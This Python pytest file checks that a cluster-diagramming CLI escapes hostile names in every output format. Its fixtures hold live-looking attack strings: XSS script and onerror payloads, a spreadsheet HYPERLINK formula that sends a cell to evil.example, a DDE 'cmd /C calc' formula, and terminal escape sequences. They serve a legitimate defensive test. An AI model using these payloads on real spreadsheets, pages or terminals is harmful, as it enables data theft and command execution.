"""Every output escapes its input for its own format (issue 17).

Names in a cluster description are data: in Markdown they are text, never HTML or a link; in
CSV they never start a formula; on a terminal their control characters are shown, not obeyed;
in PPTX and PDF they never break the XML; in SARIF a file name is a percent-encoded URI; in D2
they never break the drawing. And a stdout that cannot be written is an error, not a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest

from .conftest import ROOT, cli

EXE = Path(sys.executable).parent / "aksdiag"
BASIC = ROOT / "examples" / "kubenet-basic.yaml"
NODES = ROOT / "tests" / "bad-inputs" / "observed" / "nodes-of-another-pool.json"

HOSTILE = """\
name: "<script>alert(1)</script>[click](javascript:alert(2))"
location: eastus
networkProfile:
  networkPlugin: kubenet
  podCidr: 10.244.0.0/16
  serviceCidr: 10.0.0.0/16
  dnsServiceIP: 10.0.0.10
vnet:
  name: "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"open\\")"
  addressPrefixes: [192.168.0.0/16]
  subnets:
    - name: "<img src=x onerror=alert(3)>"
      addressPrefix: 192.168.1.0/24
    - name: "@SUM(1+1)*cmd|' /C calc'!A0"
      addressPrefix: 192.168.2.0/24
    - name: "+1-2"
      addressPrefix: 192.168.3.0/24
    - name: "-2+3"
      addressPrefix: 192.168.4.0/24
    - name: "\\t=1+1"
      addressPrefix: 192.168.5.0/24
    - name: "\\r=1+1"
      addressPrefix: 192.168.6.0/24
nodePools:
  - name: nodepool1
    count: 3
    vnetSubnetName: "<img src=x onerror=alert(3)>"
"""
CONTROL = 'name: "evil\\e]0;pwned\\a\\e[2Jname\\x9b31m"\nnodePools:\n  - name: pool1\n    count: 2\n'


def aksdiag(
    *args: str, cwd: Path | None = None, env: dict | None = None, stdin=subprocess.DEVNULL, timeout: float = 180
) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(EXE), *args], capture_output=True, text=True, cwd=cwd, env=env, stdin=stdin, timeout=timeout
    )


# What a command writes is tested in this process (conftest.cli); the executable is started where
# the process is what is tested: a terminal, a closed or full stdout, a closed stdin.


def _clean(proc: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in proc.stderr, proc.stderr


@pytest.fixture
def hostile(tmp_path):
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE)
    return path


def _no_html_or_links(text: str) -> None:
    import markdown

    for raw in ("<script", "<img", "<javascript:"):
        assert raw not in text, raw
    assert not re.search(r"(?<!\\)\]\((?!https://learn\.microsoft\.com/)", text), "a link from input"
    html = markdown.markdown(text, extensions=["tables"])
    assert "<script" not in html and "<img" not in html, html
    links = re.findall(r'<a href="([^"]*)"', html)
    assert all(url.startswith("https://learn.microsoft.com/") for url in links), links  # the rule catalogue's


# --- Markdown ------------------------------------------------------------------------------


def test_plan_markdown_carries_no_html_or_link_from_input(hostile):
    proc = cli("plan", str(hostile), "--draw-unsupported")
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    _no_html_or_links(proc.stdout)
    assert "alert(1)" in proc.stdout, "the name is still there, as text"


def test_compare_markdown_carries_no_html_or_link_from_input(hostile):
    proc = cli("compare", str(hostile), str(BASIC))
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    _no_html_or_links(proc.stdout)
    assert "alert(1)" in proc.stdout


# --- CSV ------------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("command", [["plan", "-f", "csv", "--draw-unsupported"], ["compare", "-f", "csv"]])
def test_csv_cells_never_start_a_formula(hostile, command):
    args = [command[0], str(hostile), *([str(BASIC)] if command[0] == "compare" else []), *command[1:]]
    proc = cli(*args)
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    cells = _cells(proc.stdout)
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    if command[0] == "plan":
        assert any("HYPERLINK" in c for c in cells), "the name is still there, neutralised"
        assert any(c == "'+1-2" for c in cells), "OWASP: a quote in front"


# --- terminal -------------------------------------------------------------------------------


def on_terminal(*args: str, cwd: Path | None = None) -> tuple[int, bytes]:
    """Run with stdout and stderr on a pseudo-terminal; what the terminal received."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([str(EXE), *args], stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, cwd=cwd)
    os.close(slave)
    out = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed its end
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    return proc.wait(timeout=120), out


def test_control_characters_reach_a_terminal_as_escapes(tmp_path):
    src = tmp_path / "ctl.yaml"
    src.write_text(CONTROL)
    code, out = on_terminal("plan", str(src))
    assert code == 0, out
    assert b"Traceback" not in out
    for ch in (b"\x1b", b"\x07", "\x9b".encode()):
        assert ch not in out, (ch, out[:400])


def test_control_characters_in_a_file_name_reach_a_terminal_as_escapes(tmp_path):
    src = tmp_path / "x\x1b]0;title\x07.yaml"
    src.write_text("name: c\nnodePools:\n  - name: pool1\n    count: many\n")
    code, out = on_terminal("check", str(src))
    assert code == 2 and b"count" in out
    assert b"\x1b" not in out and b"\x07" not in out, out


# --- PPTX and PDF ---------------------------------------------------------------------------

NASTY = "a\x00b\x01c\x0bd\x1be\x7ff\ud800g\ufffeh"


def _pages():
    from aksdiag.slides import deck

    # Table and list pages as the deck lays them out (their geometry is measured from the text).
    return [
        deck.Page("title", NASTY, lines=(NASTY,), notes=(NASTY,)),
        *deck._chunks(NASTY, ("h", NASTY), [(NASTY, "x")], (NASTY,)),
        *deck._list_pages(NASTY, [NASTY, "ok"], ()),
    ]


def test_pptx_text_is_cleaned_of_characters_xml_forbids():
    from aksdiag.slides.pptx_writer import write_pptx

    data = write_pptx(_pages())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
    for bad in (b"\x00", b"\x01", b"\x1b", b"\x0b"):
        assert bad not in xml
    assert b"a" in xml and b"h" in xml


def test_pdf_text_is_cleaned_of_characters_xml_forbids():
    from aksdiag.slides.pdf_writer import write_pdf

    assert write_pdf(_pages()).startswith(b"%PDF")


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".pptx", ".pdf"])
def test_slides_of_a_cluster_named_with_control_characters(tmp_path, suffix):
    src = tmp_path / "ctl.yaml"
    src.write_text('name: "a\\x01b\\x1bc\\x0b"\nnodePools:\n  - name: pool1\n    count: 2\n')
    proc = cli("slides", str(src), "-o", str(tmp_path / f"deck{suffix}"))
    _clean(proc)
    assert proc.returncode == 0, proc.stderr


# --- SARIF ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a #1.yaml", "b?x=1.yaml", "c%20d.yaml", "ü é.yaml"])
def test_sarif_uris_are_percent_encoded_and_read_back_as_the_file(tmp_path, name):
    (tmp_path / "sub dir").mkdir()
    rel = f"sub dir/{name}"
    (tmp_path / rel).write_text(BASIC.read_text())
    proc = cli("check", rel, "-f", "sarif", "--fail-on", "never", cwd=tmp_path)
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    results = json.loads(proc.stdout)["runs"][0]["results"]
    assert results, "the example has findings"
    for r in results:
        uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert not set(uri) & set(" #?"), uri
        assert unquote(uri) == rel, uri


# --- D2 -------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("view", ["overview", "addresses", "egress"])
def test_a_node_name_with_html_renders_in_every_view(tmp_path, view):
    doc = json.loads(NODES.read_text())
    doc["items"] = doc["items"][:1]
    doc["items"][0]["metadata"]["name"] = "aks-node<br>1 <b>x</b> *y* [z](http://e)"
    nodes = tmp_path / "nodes.json"
    nodes.write_text(json.dumps(doc))
    src = ROOT / "examples" / "kubenet-byo-vnet.yaml"
    out = tmp_path / f"{view}.svg"
    proc = cli("render", str(src), "--nodes", str(nodes), "--view", view, "-o", str(out))
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    assert out.read_bytes().startswith(b"<?xml")


def test_a_d2_error_names_the_input_not_d2s_temporary_file(tmp_path):
    fake = tmp_path / "d2-failing"
    fake.write_text(
        '#!/bin/sh\nif [ "$1" = --version ]; then echo v0.9.0; exit 0; fi\n'
        "echo 'err: failed to compile diagram.d2: diagram.d2:3:5: something is wrong' >&2\nexit 1\n"
    )
    fake.chmod(0o755)
    src = tmp_path / "net.yaml"
    src.write_text(BASIC.read_text())
    proc = cli(
        "render",
        str(src),
        "-o",
        str(tmp_path / "net.svg"),
        env={**os.environ, "AKSDIAG_D2": str(fake), "AKSDIAG_CACHE_DIR": str(tmp_path / "c")},
    )
    _clean(proc)
    assert proc.returncode == 2
    assert str(src) in proc.stderr and "something is wrong" in proc.stderr, proc.stderr
    assert "diagram.d2" not in proc.stderr, proc.stderr


# --- stdout and stdin that cannot be used ---------------------------------------------------

COMMANDS = {
    "plan": ["plan", str(BASIC)],
    "check": ["check", str(BASIC), "--fail-on", "never"],
    "render": ["render", str(BASIC), "-f", "d2", "-o", "-"],
    "compare": ["compare", str(BASIC), "--as", "overlay"],
    "schema": ["schema"],
}


def _shell(redirect: str, args: list[str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["sh", "-c", f'"$@" {redirect}', "sh", str(EXE), *args],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=180,
    )


@pytest.mark.parametrize("command", ["plan", "check", "render", "compare", "schema"])
@pytest.mark.parametrize("redirect", [">/dev/full", ">&-"])
def test_a_full_or_closed_stdout_is_an_error_with_exit_2(command, redirect):
    proc = _shell(redirect, COMMANDS[command])
    _clean(proc)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith("aksdiag: error:") and "stdout" in proc.stderr, proc.stderr


def test_a_closed_stdin_is_an_error_with_exit_2(tmp_path):
    proc = _shell("<&-", ["render", "-", "-o", str(tmp_path / "x.svg")])
    _clean(proc)
    assert proc.returncode == 2 and "stdin" in proc.stderr, proc.stderr
